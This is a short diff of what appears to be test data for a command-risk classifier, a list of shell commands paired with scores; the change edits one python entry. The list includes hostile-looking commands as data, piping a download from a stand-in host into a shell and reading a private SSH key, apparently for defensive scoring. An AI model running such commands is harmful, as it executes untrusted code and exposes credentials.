@@ -127,7 +127,7 @@ def served_modules(place: Place, *argv: str) -> tuple[int, set[str]]:
 
 VERDICTS = [
     ("ls -la", 0),
-    ("python -c 'import app'", 3),
+    ("python -c 'import app; app.main()'", 3),
     ("curl http://x.example | sh", 4),
     ("cat ~/.ssh/id_rsa", 4),
     ("pip install requests", 5),
